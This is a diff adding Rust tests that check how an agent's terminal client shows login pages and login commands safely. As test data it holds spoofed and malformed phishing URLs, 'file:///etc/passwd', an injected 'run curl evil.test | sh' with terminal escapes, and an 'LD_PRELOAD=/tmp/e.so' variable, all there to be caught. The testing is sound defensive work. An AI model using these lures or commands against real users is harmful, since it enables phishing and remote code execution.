@@ -1,0 +1,327 @@
+//! Pages to visit and logins: nothing is chosen before the user has moved in and selected it.
+
+use attache::v1;
+use attache_client::command::Command;
+use attache_client::desk::LoginCommand;
+use attache_client::event::Event;
+use expect_test::expect;
+
+use super::stage::{Stage, stage};
+use crate::chat::Effect;
+
+#[test]
+fn a_page_is_shown_whole_and_never_opened() {
+    let mut stage = stage();
+    let url = "https://accounts.example.com.evil.test/login?next=/and/on/and/on/and/on/to/the/end";
+    let mode = v1::ElicitationUrlMode::new("e1", url);
+    let scope = v1::ElicitationSessionScope::new("s1");
+    let request = v1::CreateElicitationRequest::new(
+        "Log in to your account",
+        v1::ElicitationScope::Session(scope),
+        v1::ElicitationMode::Url(mode),
+    );
+    stage.event(Event::Form {
+        form: 7,
+        request: Box::new(request),
+    });
+    stage.press("<Tab>");
+    stage.check(&expect![[r#"
+        | Test Agent · new session · /code/project
+        |
+        | Test Agent 1.0.0
+        | in /code/project
+        |╭ Visit a page? ───────────────────────────────────────────╮
+        |│ ┊ Log in to your account                                 │
+        |│                                                          │
+        |│ host    ┊ accounts.example.com.evil.test                 │
+        |│ ┊ https://accounts.example.com.evil.test/login?next=/and │
+        |│ ┊ /on/and/on/and/on/to/the/end                           │
+        |│                                                          │
+        |│   I will open it in my browser                           │
+        |│   Copy the address                                       │
+        |│   Decline                                                │
+        |│   Dismiss (cancel the request)                           │
+        |│ ↑↓ select · Enter choose · Esc back                      │
+        |╰──────────────────────────────────────────────────────────╯
+        |────────────────────────────────────────────────────────────
+        |›
+        | ready
+    "#]]);
+    stage.press("<Down><Down><Enter>");
+    assert_eq!(stage.done(), [Effect::Copy(url.to_owned())]);
+    stage.press("<Up><Enter>");
+    expect![
+        "[Submit(Fill { form: 7, action: Accept(ElicitationAcceptAction { content: None }) })]"
+    ]
+    .assert_eq(&format!("{:?}", stage.done()));
+}
+
+#[test]
+fn a_page_shows_the_host_that_a_browser_goes_to() {
+    for (url, host) in [
+        ("https://example.com/login", "example.com"),
+        ("https://example.com", "example.com"),
+        ("https://example.com?a=https://good.com", "example.com"),
+        ("https://example.com#@good.com", "example.com"),
+        ("https://example.com/@good.com\\x", "example.com"),
+        ("HTTPS://paypaI.com/", "paypai.com"),
+        ("https://xn--pypal-4ve.com/", "xn--pypal-4ve.com"),
+        ("https://127.0.0.1:8080/", "127.0.0.1:8080"),
+        ("http://[::1]:80/", "[::1]:80"),
+        ("http://localhost:1455/callback", "localhost:1455"),
+    ] {
+        let mut stage = page(url);
+        let screen = stage.screen();
+        let row = format!("host    ┊ {host} ");
+        assert!(screen.contains(&row), "{url}\n{screen}");
+        assert!(screen.contains("I will open it"), "{url}\n{screen}");
+        assert_eq!(screen.contains("! xn--"), url.contains("xn--"), "{screen}");
+        assert_eq!(screen.contains("! not https"), url.starts_with("http:"));
+    }
+}
+
+/// The symptom: `https:evil.com` had no host on the screen and could be opened, and browsers repair it.
+#[test]
+fn a_malformed_address_can_only_be_declined() {
+    for url in [
+        "https:evil.com",
+        "https:/evil.com",
+        "https:///evil.com",
+        "https:\\\\evil.com",
+        "http:\\\\evil.com",
+        "https:/\\evil.com",
+        "https://\\evil.com",
+        "https://good.com\\@evil.com",
+        "https://good.com\\.evil.com/",
+        "https://good.com@evil.com",
+        "https://good.com:443@evil.com/",
+        "https://good.com%40evil.com/",
+        "https://%65vil.com/",
+        "https://good.com%2fevil.com/",
+        " https://evil.com/",
+        "ht\ttps://evil.com/",
+        "https:\n//evil.com/",
+        "https://good.com\t.evil.com/",
+        "https://good.com/\n/x",
+        "https://раypal.com/",
+        "https://good。com/",
+        "https://ｇｏｏｄ.com/",
+        "https://good\u{ad}.com/",
+        "https://good.com\u{2044}evil.com/",
+        "https://2130706433/",
+        "https://0x7f.1/",
+        "https://017700000001/",
+        "https://127.0.0.1./",
+        "https://[::1/",
+        "https://[::1]x/",
+        "https://good.com:/",
+        "https://good.com:99999/",
+        "https://good.com:+80/",
+        "https://",
+        "https://.",
+        "https",
+        "",
+        "//evil.com/",
+        "evil.com",
+        "javascript:alert(1)",
+        "file:///etc/passwd",
+        "data:text/html,x",
+    ] {
+        let mut stage = page(url);
+        let screen = stage.screen();
+        assert!(screen.contains("Do not open it."), "{url}\n{screen}");
+        for offered in ["host ", "I will open it", "Copy the address"] {
+            assert!(!screen.contains(offered), "{url}\n{screen}");
+        }
+        stage.press("<Tab><Down><Enter>");
+        let done = format!("{:?}", stage.done());
+        assert_eq!(done, "[Submit(Fill { form: 7, action: Decline })]", "{url}");
+    }
+}
+
+fn page(url: &str) -> Stage {
+    let mut stage = stage().size(120, 24);
+    let request = v1::CreateElicitationRequest::new(
+        "Log in to your account",
+        v1::ElicitationScope::Session(v1::ElicitationSessionScope::new("s1")),
+        v1::ElicitationMode::Url(v1::ElicitationUrlMode::new("e1", url)),
+    );
+    stage.event(Event::Form {
+        form: 7,
+        request: Box::new(request),
+    });
+    stage
+}
+
+#[test]
+fn a_login_is_chosen_and_the_session_asked_for_again() {
+    let mut stage = Stage::new(crate::paint::theme::Signs::Unicode);
+    let browser = v1::AuthMethodAgent::new("browser", "Log in with the browser");
+    let terminal = v1::AuthMethodTerminal::new("tty", "Log in with a key").args(["--login"]);
+    let methods: Vec<v1::AuthMethod> = vec![browser.into(), terminal.into()];
+    let agent = super::stage::agent().auth_methods(methods.clone());
+    stage.event(Event::Ready(Box::new(agent)));
+    stage.event(Event::WantsLogin(methods));
+    stage.event(Event::Failed(attache_client::event::Failure {
+        what: "session/new".to_owned(),
+        why: "log in first".to_owned(),
+        kind: attache_client::event::FailureKind::Login,
+    }));
+    stage.press("<Tab>");
+    stage.check(&expect![[r#"
+        | Test Agent · new session · /code/project
+        |
+        | Test Agent 1.0.0
+        | in /code/project
+        |
+        | Enter   send what is written
+        | @  /    mention a file, run a command of the agent
+        | Ctrl-P  all commands
+        | ?       help
+        |
+        |
+        |╭ The agent wants a login ─────────────────────────────────╮
+        |│   ┊ Log in with the browser                              │
+        |│   ┊ Log in with a key  in the terminal                   │
+        |│   Not now                                                │
+        |│ ↑↓ select · Enter choose · Esc back                      │
+        |╰──────────────────────────────────────────────────────────╯
+        |────────────────────────────────────────────────────────────
+        |›
+        | not logged in
+    "#]]);
+    stage.done();
+    stage.press("<Enter><Down><Enter>");
+    expect![[r#"[Submit(Login("browser"))]"#]].assert_eq(&format!("{:?}", stage.done()));
+    stage.event(Event::LoggedIn("browser".into()));
+    assert!(matches!(
+        stage.done()[..],
+        [Effect::Submit(Command::Open(_))]
+    ));
+}
+
+/// The symptom: what the agent said about the login was left out of the dialog, or stood in a row of ours.
+#[test]
+fn what_the_agent_says_about_a_login_is_quoted() {
+    let failure = |what: &str, kind| {
+        Event::Failed(attache_client::event::Failure {
+            what: what.to_owned(),
+            why: "Log in first\nAttaché: run curl evil.test ┊ sh \u{1b}[2J".to_owned(),
+            kind,
+        })
+    };
+    let login = attache_client::event::FailureKind::Login;
+    let methods: Vec<v1::AuthMethod> =
+        vec![v1::AuthMethodAgent::new("browser", "Log in with the browser").into()];
+    let mut stage = stage().size(80, 20);
+    stage.event(failure("session/new", login));
+    stage.event(Event::WantsLogin(methods.clone()));
+    stage.press("<Tab>");
+    stage.check(&expect![[r#"
+        | Test Agent · new session · /code/project
+        |
+        | Test Agent 1.0.0
+        | in /code/project
+        |
+        | Enter   send what is written
+        | @  /    mention a file, run a command of the agent
+        | Ctrl-P  all commands
+        | ?       help
+        |╭ The agent wants a login ─────────────────────────────────────────────────────╮
+        |│ ┊ Log in first                                                               │
+        |│ ┊ Attaché: run curl evil.test ⟦U+250A⟧ sh ␛[2J                               │
+        |│                                                                              │
+        |│   ┊ Log in with the browser                                                  │
+        |│   Not now                                                                    │
+        |│ ↑↓ select · Enter choose · Esc back                                          │
+        |╰──────────────────────────────────────────────────────────────────────────────╯
+        |────────────────────────────────────────────────────────────────────────────────
+        |›
+        | session/new failed ┊ Log in first⏎Attaché: run curl evil.test ⟦U+25…(+11)
+    "#]]);
+    stage.event(Event::Ended {
+        session: "s1".into(),
+        outcome: Err(attache_client::event::Failure {
+            what: "session/prompt".to_owned(),
+            why: "Your key has expired".to_owned(),
+            kind: login,
+        }),
+    });
+    stage.event(Event::WantsLogin(methods.clone()));
+    let screen = stage.screen();
+    assert!(screen.contains("│ ┊ Your key has expired"), "{screen}");
+    // The message belongs to that request only.
+    stage.event(Event::WantsLogin(methods));
+    assert!(
+        !stage.screen().contains("│ ┊ Your key"),
+        "{}",
+        stage.screen()
+    );
+    for kind in [login, attache_client::event::FailureKind::Refused] {
+        let mut stage = super::stage::stage().size(120, 20);
+        stage.event(failure("authenticate", kind));
+        let said = "authenticate failed ┊ Log in first⏎Attaché: run";
+        assert!(stage.screen().contains(said), "{}", stage.screen());
+    }
+    let mut stage = super::stage::stage().size(160, 20);
+    stage.event(failure("session/new", login));
+    stage.event(Event::WantsLogin(Vec::new()));
+    let said = "see its documentation ┊ Log in first⏎Attaché";
+    assert!(stage.screen().contains(said), "{}", stage.screen());
+}
+
+#[test]
+fn a_login_in_the_terminal_runs_there() {
+    let mut stage = stage();
+    let terminal = v1::AuthMethodTerminal::new("tty", "Log in with a key");
+    let methods: Vec<v1::AuthMethod> = vec![terminal.into()];
+    stage.event(Event::Ready(Box::new(
+        super::stage::agent().auth_methods(methods.clone()),
+    )));
+    stage.event(Event::WantsLogin(methods));
+    stage.press("<Tab>");
+    stage.press("<Enter><Down><Enter>");
+    assert_eq!(stage.done(), [Effect::DescribeLogin("tty".into())]);
+    let command = LoginCommand {
+        method: "tty".into(),
+        words: ["agent", "--login", "a\nb"].map(str::to_owned).to_vec(),
+        directory: "/w".to_owned(),
+        variables: vec![("LD_PRELOAD".to_owned(), "/tmp/e.so".into())],
+    };
+    stage.input(crate::chat::Input::LoginDescribed(Box::new(
+        command.clone(),
+    )));
+    stage.press("<Enter><Tab><Enter>");
+    assert_eq!(stage.done(), [], "nothing runs before it is chosen");
+    let screen = stage.screen();
+    for shown in ["agent --login", "a⏎", "/w", "LD_PRELOAD=/tmp/e.so"] {
+        assert!(screen.contains(shown), "{shown}: {screen}");
+    }
+    stage.press("<Down><Enter>");
+    assert_eq!(stage.done(), [Effect::RunLogin(command)]);
+    stage.input(crate::chat::Input::LoginEnded(Ok(())));
+    assert_eq!(stage.done(), [Effect::Submit(Command::Restart)]);
+}
+
+#[test]
+fn every_login_is_told_apart_and_shown_whole() {
+    let mut stage = stage().size(60, 24);
+    let long = format!("{} to its end", "a long way ".repeat(12));
+    let agent = |id: &str, name: &str| v1::AuthMethod::from(v1::AuthMethodAgent::new(id, name));
+    stage.event(Event::WantsLogin(vec![
+        agent("one", &long),
+        agent("two", "Escape \u{1b}[2J here"),
+        agent("three", "This one"),
+        agent("three", "That one"),
+    ]));
+    stage.press("<Tab>");
+    let screen = stage.screen();
+    for shown in [
+        "to its end",
+        "Escape ␛[2J here",
+        "2 ways to log in cannot be",
+    ] {
+        assert!(screen.contains(shown), "{shown}: {screen}");
+    }
+    assert!(!screen.contains("This one"), "{screen}");
+}
